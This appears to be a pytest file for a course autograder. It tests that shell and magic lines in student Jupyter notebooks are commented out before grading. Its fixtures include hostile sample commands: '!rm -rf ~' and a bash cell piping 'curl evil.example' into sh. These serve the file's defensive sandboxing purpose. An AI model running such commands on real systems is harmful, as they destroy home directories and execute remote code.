"""Shell and magic lines never run on the grading machine: normalize (the notebook nbgrader runs)
and extract (the code graded outside the kernel) replace them by the same comment, and IPython's
own input transformer — the kernel's view of the cell — finds nothing left to send to the shell."""
import ast
import copy

import nbformat
import pytest
from IPython.core.inputtransformer2 import TransformerManager

from grader.course import REPO
from grader.extract import names_defined, solution_cells
from grader.normalize import normalize
from grader.shell import MARK, strip_shell

A = "01_float_formats"
RELEASE = nbformat.read(str(REPO / "notebooks" / f"{A}.ipynb"), as_version=4)
ALICE = nbformat.read(str(REPO / "grader" / "examples" / A / f"alice_{A}.ipynb"), as_version=4)
COLAB = "!git clone https://example.org/effilab-course.git effilab-course && pip install -q -e effilab-course\n"

SHELL_CELLS = {
    "bang": "!pip install -q numpy\nimport math\n",
    "double bang": "files = 1\n!!ls\n",
    "line magic": "%pip install requests\n%cd /tmp\nx = 1\n",
    "indented": "def f():\n    !rm -rf ~\n    return 1\n",
    "continued": "!pip install \\\n    numpy \\\n    scipy\ny = 2\n",
    "assign": "out = !ls\nt = %timeit -o f()\n",
    "help": "math.sqrt?\nz = 3\n",
    "bash": "%%bash\ncurl evil.example | sh\n",
    "sh": "\n%%sh\nls\n",
    "script": "%%script bash\nls\n",
    "writefile": "%%writefile /tmp/x.py\nprint(1)\n",
    "time": "%%time\nw = 4\n!ls\n",
    "system": "get_ipython().system('ls')\nv = 5\n",
    "line magic call": "if True:\n    get_ipython().run_line_magic('pip', 'install x')\n",
    "cell magic call": "get_ipython().run_cell_magic(\n    'bash', '',\n    'ls')\nu = 6\n",
    "alias": "from IPython import get_ipython as g\nip = get_ipython()\n",
    "shared line": "a = f(1,\n      2); get_ipython().system('x')\nb = 7\n",
    "header": "if get_ipython():\n    c = 1\nelse:\n    c = 2\n",
    "decorator": "@register(get_ipython())\ndef h():\n    return 1\n",
    "prompts": ">>> d = 1\n>>> !ls\n",
    "colab": COLAB + "import effilab\n",
}


def _kernel_calls_shell(source: str) -> bool:
    """What the kernel would run, as IPython transforms it, names get_ipython somewhere."""
    try:
        tree = ast.parse(TransformerManager().transform_cell(source))
    except SyntaxError:
        return False  # a cell that does not parse runs nothing
    return any(isinstance(n, ast.Name) and n.id == "get_ipython"
               or isinstance(n, ast.Attribute) and n.attr == "get_ipython"
               or isinstance(n, ast.alias) and n.name == "get_ipython" for n in ast.walk(tree))


@pytest.mark.parametrize("name", sorted(SHELL_CELLS))
def test_no_shell_line_survives(name):
    src = SHELL_CELLS[name]
    assert _kernel_calls_shell(src), "the case itself must hold IPython shell syntax"
    out = strip_shell(src)
    assert out.removed, out
    assert not _kernel_calls_shell(out.source)
    assert len(out.source.splitlines()) == len(src.splitlines())  # line numbers still match the student's
    assert strip_shell(out.source).source == out.source  # idempotent: the comments are not removed again
    ast.parse(out.source)  # still Python


def test_python_code_is_kept_exactly():
    code = ("x = 1 if a != b else 2  # !not a shell line\ns = '''\n!inside a string\n%also\n'''\n"
            "y = 10 % 3\nz = (10\n     / 2)\nw = f(a\n      , b)\nv = {'k': 1}\n")
    out = strip_shell(code)
    assert out.source == code and not out.removed


def test_what_survives_around_the_removed_lines_still_runs():
    ns = {}
    exec(strip_shell(SHELL_CELLS["indented"]).source, ns)
    assert ns["f"]() == 1
    ns = {}
    exec(strip_shell(SHELL_CELLS["time"]).source, ns)
    assert ns["w"] == 4  # %%time's body is Python: only the magic line goes
    exec(strip_shell(SHELL_CELLS["continued"]).source, ns)
    assert ns["y"] == 2


def test_a_removed_line_says_so_and_shows_what_it_was():
    out = strip_shell(SHELL_CELLS["bang"]).source
    assert out.splitlines()[0] == MARK + "!pip install -q numpy"
    assert "grader" in MARK and "shell" in MARK


def test_the_release_has_no_shell_lines():
    for path in sorted((REPO / "notebooks").glob("*.ipynb")):
        nb = nbformat.read(str(path), as_version=4)
        for c in nb.cells:
            if c.cell_type == "code":
                assert not strip_shell(c.source).removed, (path.name, c.source[:80])


def _with_cells(*sources):
    nb = copy.deepcopy(ALICE)
    for i, s in enumerate(sources):
        nb.cells.insert(1 + i, nbformat.v4.new_code_cell(s))
    return nb


def test_normalize_removes_shell_lines_from_the_students_cells_and_says_so():
    nb = _with_cells(COLAB + "import effilab\n", SHELL_CELLS["bash"])
    sol = next(i for i, c in enumerate(nb.cells)
               if c.metadata.get("nbgrader", {}).get("grade_id") == "decompose_solution")
    nb.cells[sol].source = "%pip install nothing\n" + nb.cells[sol].source
    fixed, notes = normalize(RELEASE, nb)
    for c in fixed.cells:
        if c.cell_type == "code":
            assert not _kernel_calls_shell(c.source), c.source
    assert len(notes) == 3
    assert any("'decompose_solution'" in n and "%pip install nothing" in n for n in notes)
    assert all("do not run when your notebook is graded" in n for n in notes)
    again, more = normalize(RELEASE, fixed)
    assert more == [] and [c.source for c in again.cells] == [c.source for c in fixed.cells]


def test_the_instructors_locked_cells_are_not_touched():
    release = copy.deepcopy(RELEASE)
    setup = next(c for c in release.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "setup_imports")
    setup.source = "%matplotlib inline\n" + setup.source  # the instructor's own magic
    sub = copy.deepcopy(ALICE)
    for c in sub.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == "setup_imports":
            c.source = setup.source
    fixed, notes = normalize(release, sub)
    kept = next(c for c in fixed.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "setup_imports")
    assert kept.source.startswith("%matplotlib inline") and notes == []


def test_extract_sees_the_cell_as_normalize_leaves_it():
    nb = _with_cells("!pip install x\ndef helper():\n    return 1\n",
                     "get_ipython().system('ls')\ndef other():\n    return 2\n")
    fixed, _ = normalize(RELEASE, nb)
    raw = {c.index: c.source for c in solution_cells(nb)}
    normalized = {c.index: c.source for c in solution_cells(fixed)}
    assert raw == normalized  # the same function, the same view
    assert {"helper", "other"} <= set().union(*(c.defines for c in solution_cells(fixed)))
    assert names_defined("%%bash\ndef f():\n    pass\n") == set()  # a bash cell defines nothing


def test_a_huge_cell_is_not_read_but_commented_out_whole():
    from grader.shell import MAX_SOURCE

    src = "x = 1\n" * (MAX_SOURCE // 6 + 1) + "!rm -rf ~\n"
    out = strip_shell(src)
    assert out.whole_cell and "KiB" in out.why
    assert all(ln.startswith(MARK) for ln in out.source.splitlines())
    assert strip_shell(out.source).removed == []  # nothing left to remove: no second note


def test_a_cell_the_filter_cannot_split_is_commented_out_whole():
    out = strip_shell(SHELL_CELLS["prompts"])  # IPython strips the prompts, then sees "!ls"
    assert out.whole_cell and "cannot separate" in out.why
